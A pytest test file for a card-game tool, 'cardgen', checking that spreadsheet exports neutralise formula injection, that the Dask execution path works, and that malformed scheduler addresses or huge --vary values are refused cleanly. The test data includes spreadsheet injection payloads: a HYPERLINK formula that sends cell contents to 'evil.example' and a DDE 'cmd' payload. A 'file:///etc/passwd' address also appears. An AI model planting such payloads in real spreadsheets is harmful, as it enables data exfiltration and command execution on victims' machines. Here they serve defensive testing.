"""Hostile input against what cardgen writes and runs (issue 26, second half): spreadsheet exports
that a spreadsheet program would run as formulas, a build cache that can be swapped, forged or
copied, the Dask path against real scheduler and worker processes, and --scheduler / --vary
values that used to crash or hang.

Every command runs as users run it: `python -m cardgen` in a subprocess, with a time limit.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import yaml

from cardgen.load import bundled_games_dir

COMMAND_TIMEOUT_S = 120


def cardgen(*args: str, cwd: Path | None = None, env: dict | None = None, timeout: float = COMMAND_TIMEOUT_S) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "cardgen", *args], cwd=cwd, env=env, capture_output=True, text=True,
                          timeout=timeout)


# --- export: formula injection ------------------------------------------------------------------

# Texts a spreadsheet program would run (OWASP's list: = + - @ tab CR), and texts that only look
# like the writer's neutralisation (they must come back exactly as written, quotes and all).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1)"]
QUOTED = ["'=already quoted", "''+two quotes", "'plain quote"]


def hostile_llll(where: Path) -> Path:
    """llll with formula-like texts in its ability, commentary and name cells."""
    folder = where / "llll"
    shutil.copytree(bundled_games_dir() / "llll", folder)
    data = yaml.safe_load((folder / "cards.yaml").read_text(encoding="utf-8"))
    types = data["types"]
    for kind, text in zip(types, FORMULAS):
        kind["ability"]["en"] = text
    for kind, text in zip(types, QUOTED):
        kind["commentary"]["en"] = text
    types[-1]["name"]["en"] = "=1+1"
    (folder / "cards.yaml").write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return folder


def formula_like(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_neutralises_formulas_and_reads_back_as_the_same_game(fmt, tmp_path):
    folder = hostile_llll(tmp_path / "src")
    exported = tmp_path / f"cards.{fmt}"
    done = cardgen("export", str(folder), "--format", fmt, "--output", str(exported))
    assert done.returncode == 0, done.stderr
    if fmt == "csv":
        import csv

        cells = [cell for row in csv.reader(exported.read_text(encoding="utf-8").splitlines()) for cell in row]
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(exported)["Cards"]
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if formula_like(c)]
    for text in FORMULAS + ["=1+1"]:
        assert "'" + text in cells
    for text in QUOTED[:2]:
        assert "'" + text in cells  # quotes then a formula character: one more quote
    assert QUOTED[2] in cells  # a quote before plain text is left alone

    # the export, kept as the game's card list, is the same game card for card
    back = tmp_path / "back" / "llll"
    shutil.copytree(folder, back)
    (back / "cards.yaml").unlink()
    shutil.copyfile(exported, back / f"cards.{fmt}")
    original, again = (cardgen("export", str(f), "--format", "json") for f in (folder, back))
    assert original.returncode == again.returncode == 0, again.stderr
    assert json.loads(again.stdout)["cards"] == json.loads(original.stdout)["cards"]
    texts = {row["ability"]["en"] for row in json.loads(again.stdout)["cards"]}
    assert set(FORMULAS) <= texts


def test_neutralise_is_undone_exactly_by_the_reader():
    from cardgen.io.spreadsheet import neutralise, restore

    samples = ["", "'", "''", "=", "'=", "\t=x", "\tx", "\rx", "x=1", " =1", "'a", "''a", "-", "'-", "a'=b", "@", "＝全角"]
    for text in samples:
        assert restore(neutralise(text)) == text, text
        assert not formula_like(neutralise(text))


# --- the Dask path, as users run it -------------------------------------------------------------

CLUSTER_START_S = 60  # the most a scheduler and its worker may take to come up


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def stop(process: subprocess.Popen) -> None:
    """End `process` and everything it started (its own session): TERM, then KILL."""
    if process.poll() is None:
        try:
            os.killpg(process.pid, signal.SIGTERM)
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait(timeout=10)
        except ProcessLookupError:
            pass
    try:
        os.killpg(process.pid, signal.SIGKILL)  # a nanny's worker left behind
    except ProcessLookupError:
        pass


@pytest.fixture(scope="module")
def dask_cluster(tmp_path_factory):
    """`dask scheduler` and one `dask worker` (one process, one thread) as real processes on
    127.0.0.1, on free ports, without dashboards; their address.  Run by this interpreter
    (`python -m dask` is the `dask` command) so the worker imports the cardgen under test."""
    pytest.importorskip("distributed")
    logs = tmp_path_factory.mktemp("dask")
    address = f"tcp://127.0.0.1:{free_port()}"
    started: list[subprocess.Popen] = []

    def start(name: str, *args: str) -> subprocess.Popen:
        log = open(logs / f"{name}.log", "wb")
        process = subprocess.Popen([sys.executable, "-m", "dask", name, *args, "--no-dashboard"], stdout=log,
                                   stderr=subprocess.STDOUT, start_new_session=True, cwd=logs)
        started.append(process)
        return process

    try:
        start("scheduler", "--host", "127.0.0.1", "--port", address.rsplit(":", 1)[1])
        start("worker", address, "--host", "127.0.0.1", "--nworkers", "1", "--nthreads", "1")
        from distributed import Client

        with Client(address, timeout=CLUSTER_START_S, set_as_default=False) as client:
            client.wait_for_workers(1, timeout=CLUSTER_START_S)
        yield address
    finally:
        for process in reversed(started):
            stop(process)


def without_run_line(text: str) -> list[str]:
    """A report's lines without the one that says where and how fast it ran."""
    return [line for line in text.splitlines() if not line.strip().startswith("(")]


def test_simulate_and_sweep_on_a_real_dask_cluster_give_the_local_tables(dask_cluster, tmp_path):
    simulate = ("simulate", "alice", "--games", "20", "--seed", "3")
    local = cardgen(*simulate, "--workers", "1")
    remote = cardgen(*simulate, "--executor", "dask", "--scheduler", dask_cluster)
    assert local.returncode == 0, local.stderr
    assert remote.returncode == 0, remote.stderr
    assert without_run_line(remote.stdout) == without_run_line(local.stdout)
    assert "success" in remote.stdout

    # the README's sweep, with a small game count (it exited 3, "No clients found")
    sweep = ("sweep", "alice", "--vary", "cards.red_place.count=2..4", "--games", "10", "--no-report")
    local = cardgen(*sweep, "--out", str(tmp_path / "local"), "--workers", "1")
    remote = cardgen(*sweep, "--out", str(tmp_path / "dask"), "--executor", "dask", "--scheduler", dask_cluster)
    assert local.returncode == 0, local.stderr
    assert remote.returncode == 0, remote.stderr
    assert "Dask cluster" in remote.stdout
    assert without_run_line(remote.stdout) == without_run_line(local.stdout)
    assert len(without_run_line(remote.stdout)) == 5  # title, header, three points


@pytest.fixture
def silent_server():
    """A TCP server on 127.0.0.1 that accepts every connection and never says a word; its address."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    accepted: list[socket.socket] = []
    done = threading.Event()

    def serve() -> None:
        server.settimeout(0.2)
        while not done.is_set():
            try:
                accepted.append(server.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield f"tcp://127.0.0.1:{server.getsockname()[1]}"
    finally:
        done.set()
        thread.join(timeout=5)
        for conn in accepted:
            conn.close()
        server.close()


def command_for(name: str, out: Path) -> tuple[str, ...]:
    """A small `simulate` or `sweep` of alice."""
    if name == "sweep":
        return ("sweep", "alice", "--vary", "cards.red_place.count=2..3", "--games", "5", "--no-report", "--out", str(out))
    return ("simulate", "alice", "--games", "5")


@pytest.mark.parametrize("command", ["simulate", "sweep"])
def test_a_scheduler_that_never_speaks_is_one_clear_line(command, silent_server, tmp_path):
    env = {**os.environ, "DASK_DISTRIBUTED__COMM__TIMEOUTS__CONNECT": "2s"}  # Dask's own setting; 30 s by default
    started = time.monotonic()
    done = cardgen(*command_for(command, tmp_path), "--executor", "dask", "--scheduler", silent_server, env=env, timeout=60)
    assert time.monotonic() - started < 30
    assert done.returncode == 1, done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    assert errors == [f"error: --scheduler {silent_server}: no Dask scheduler answered within 2 s; "
                      "start one with `dask scheduler` and workers with `dask worker ADDRESS`, and give the address it prints"]
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("command, address", [
    *(("simulate", a) for a in ("foo", "file:///etc/passwd", "tcp://[::1", "tcp://127.0.0.1:99999", "ucx://127.0.0.1:8786",
                                "tcp://127.0.0.1", "tcp://[zz]:8786", "tcp://127.0.0.1:0")),
    ("sweep", "file:///etc/passwd"), ("sweep", "tcp://[::1")])
def test_a_malformed_scheduler_is_a_usage_error(command, address, tmp_path):
    done = cardgen(*command_for(command, tmp_path), "--executor", "dask", "--scheduler", address)
    assert done.returncode == 2, done.stderr
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("Error: Invalid value for '--scheduler':") and "tcp://HOST:PORT" in last, last
    assert "Traceback" not in done.stderr


# --- --vary bounds --------------------------------------------------------------------------------

HUGE = "9" * 400


@pytest.mark.parametrize("values, said", [
    (f"0..{HUGE}", "range 0..999"),
    (f"0.1..{HUGE}:0.5", "range 0.1..999"),
    (",".join(str(i) for i in range(20_000)), "the list 0,1,2"),
    ("0..1:0.0001", "range 0..1:0.0001"),
], ids=["huge-range", "huge-float-range", "list-of-20000", "fine-step"])
def test_a_vary_with_too_many_values_is_a_usage_error_before_any_point(values, said, tmp_path):
    started = time.monotonic()
    done = cardgen("sweep", "ohanatsumi", "--players", "3", "--vary", f"elf_urge_default={values}", "--games", "2",
                   "--no-report", "--out", str(tmp_path), "--workers", "1", timeout=30)
    assert time.monotonic() - started < 20
    assert done.returncode == 2, done.stderr
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("Error: Invalid value for '--vary'") and said in last and "more than 1,000 values" in last, last
    assert len(last) < 300  # the 400 digits are not quoted back
    assert not (tmp_path / "ohanatsumi").exists()  # refused before a results folder is made


@pytest.mark.parametrize("game, vary", [("alice", f"cards.red_place.count={HUGE}"),
                                        ("ohanatsumi", f"elf_urge_default={HUGE}"),
                                        ("ohanatsumi", f"elf_urge_default={HUGE}..{HUGE}")],
                         ids=["count", "parameter", "one-value-range"])
def test_a_huge_vary_value_is_refused_by_the_game(game, vary, tmp_path):
    done = cardgen("sweep", game, "--vary", vary, "--games", "2", "--no-report", "--out", str(tmp_path), "--workers", "1",
                   *(("--players", "3") if game == "ohanatsumi" else ()), timeout=30)
    assert done.returncode == 1, done.stderr
    assert "nothing to run" in done.stderr and "Traceback" not in done.stderr and "internal error" not in done.stderr
